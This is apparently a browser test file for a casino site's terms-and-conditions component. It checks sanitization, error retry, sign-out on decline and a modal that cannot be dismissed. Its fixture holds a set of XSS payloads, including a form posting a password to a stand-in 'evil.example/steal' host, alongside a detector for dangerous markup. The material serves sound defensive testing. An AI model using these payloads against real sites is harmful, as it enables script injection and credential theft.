import { expect } from '@esm-bundle/chai';
import { axeViolations, button, nextEvent, place, resetAll, sandbox, signInWith, text, until } from './support/page.ts';

const DOCUMENT = '/api/content/getdocument';

const HOSTILE_TERMS = `<h2>Terms and Conditions</h2>
<script>alert('script')</script>
<style>.safe-html { display: none }</style>
<p onclick="alert('onclick')" onmouseover="alert('onmouseover')" style="position:fixed;inset:0">You must be at least 18 years old.</p>
<img src="/nothing-here.png" alt="" onerror="alert('onerror')">
<p><a href="javascript:alert('javascript-url')">Claim</a> <a href="https://example.com/rules" onfocus="alert('onfocus')">Rules</a></p>
<form action="https://evil.example/steal"><input name="password" autofocus onfocus="alert('autofocus')"><button formaction="javascript:alert('formaction')">Send</button><textarea></textarea><select><option>1</option></select></form>
<iframe srcdoc="<script>parent.alert('srcdoc')</script>"></iframe>
<svg><animate onbegin="alert('svg')" attributeName="x" dur="1s"></animate></svg>
<object data="javascript:alert('object')"></object>
<a href="data:text/html,<script>alert('data-url')</script>">Data</a>`;

/** Whatever could still run script, restyle the widget or collect input in the rendered terms. */
function dangers(root: Element): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    if (element.matches('script, style, iframe, object, embed, form, input, button, textarea, select, svg, math, link, meta, base')) found.push(`<${element.localName}>`);
    for (const attribute of element.attributes) {
      if (/^on/i.test(attribute.name) || attribute.name === 'style' || attribute.name === 'srcdoc' || attribute.name === 'formaction') found.push(`${element.localName}[${attribute.name}]`);
      if (/^\s*(javascript|vbscript|data):/i.test(attribute.value)) found.push(`${element.localName}[${attribute.name}=${attribute.value.slice(0, 20)}]`);
    }
  }
  return found;
}

describe('<casino-terms>', () => {
  beforeEach(resetAll);

  it('shows the terms, sanitized, without Accept to a visitor who is not signed in', async () => {
    // The platform's terms carry every kind of script the strict profile forbids (vectors in the
    // style of the public corpora in tests/fixtures/xss): only the formatting may reach the page.
    await sandbox('documents', { type: 'TermsAndConditions', content: HOSTILE_TERMS });
    const executions: string[] = [];
    const trap = (name: string) => () => executions.push(name);
    const originals = { alert: window.alert, confirm: window.confirm, prompt: window.prompt };
    Object.assign(window, { alert: trap('alert'), confirm: trap('confirm'), prompt: trap('prompt') });
    try {
      const host = await place('casino-terms');
      const content = await until(() => host.shadowRoot!.querySelector('.safe-html'), 'the terms text');
      // Under the dialog's h2 title, the terms' own h2 reads as an h3.
      await until(() => content.querySelector('h3'), 'the terms heading');
      expect(content.querySelector('h3')!.textContent).to.equal('Terms and Conditions');
      expect(content.querySelector('h2')).to.equal(null);
      expect(content.textContent).to.contain('You must be at least 18');
      expect(text(host)).not.to.contain('Accept');
      for (const element of content.querySelectorAll<HTMLElement>('*')) {
        for (const name of ['mouseover', 'focus', 'click']) element.dispatchEvent(new Event(name, { bubbles: true }));
      }
      await new Promise((resolve) => setTimeout(resolve, 200)); // let onerror, onload and timers fire
      expect(dangers(content)).to.deep.equal([]);
      expect(executions).to.deep.equal([]);
      const link = Array.from(content.querySelectorAll('a')).find((anchor) => anchor.textContent === 'Rules')!;
      expect(link.getAttribute('href')).to.equal('https://example.com/rules');
      expect(link.getAttribute('rel')).to.equal('noopener noreferrer');
      expect(await axeViolations(host)).to.deep.equal([]);
    } finally {
      Object.assign(window, originals);
    }
  });

  it('says when the terms cannot be loaded and loads them on Try again', async () => {
    window.casino.configure({ retries: 0 });
    await sandbox('faults', { path: DOCUMENT, status: 503, times: 0 });
    const host = await place('casino-terms');
    const alert = await until(() => host.shadowRoot!.querySelector('[role=alert]'), 'the error');
    expect(alert.textContent).to.equal('Something went wrong');
    expect(await axeViolations(host)).to.deep.equal([]);
    await fetch('/__sandbox/faults', { method: 'DELETE' });
    button(host, 'Try again').click();
    await until(() => host.shadowRoot!.querySelector('.safe-html h3'), 'the terms after retrying');
    expect(host.shadowRoot!.querySelector('[role=alert]')).to.equal(null);
  });

  it('signs the player out when the terms are declined', async () => {
    const signin = await place('casino-signin');
    await signInWith(signin, 'terms@example.com');
    const terms = await until(() => document.querySelector('casino-modal')?.shadowRoot?.querySelector('casino-terms'), 'the terms', 5000);
    await until(() => text(terms).includes('Decline and sign out'), 'the decline button');
    const signedOut = nextEvent(document, 'casino-signed-out');
    button(terms, 'Decline and sign out').click();
    expect((await signedOut).detail).to.deep.equal({ reason: 'terms-declined' });
    await until(() => !document.querySelector('casino-modal'), 'the modal to close');
    await until(() => text(signin).includes('Remember me'), 'the sign-in form');
  });

  it('cannot be dismissed when the player must accept them: no close button; Escape, the backdrop and back do nothing', async () => {
    const signin = await place('casino-signin');
    await signInWith(signin, 'terms@example.com');
    const modal = await until(() => document.querySelector('casino-modal'), 'the modal', 5000);
    const terms = await until(() => modal.shadowRoot?.querySelector('casino-terms'), 'the terms', 5000);
    await until(() => text(terms).includes('Accept'), 'the accept button');
    // Booleans, not elements: chai would try to print a React-rendered element in its failure message.
    expect(terms.shadowRoot!.querySelector('[data-close]') === null, 'no close button').to.equal(true);

    const stillOpen = async (after: string) => {
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(document.querySelector('casino-modal') === modal, `the modal is still open after ${after}`).to.equal(true);
      expect(modal.shadowRoot!.querySelector('casino-terms') === terms, `the terms are still shown after ${after}`).to.equal(true);
    };
    document.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true }));
    await stillOpen('Escape');
    modal.shadowRoot!.querySelector<HTMLElement>('.backdrop')!.click();
    await stillOpen('a click on the backdrop');
    history.back(); // the modal's own history entry: the page itself stays
    await stillOpen('the back action');

    const signedOut = nextEvent(document, 'casino-signed-out');
    button(terms, 'Decline and sign out').click();
    expect((await signedOut).detail).to.deep.equal({ reason: 'terms-declined' });
    await until(() => !document.querySelector('casino-modal'), 'the modal to close');
  });
});
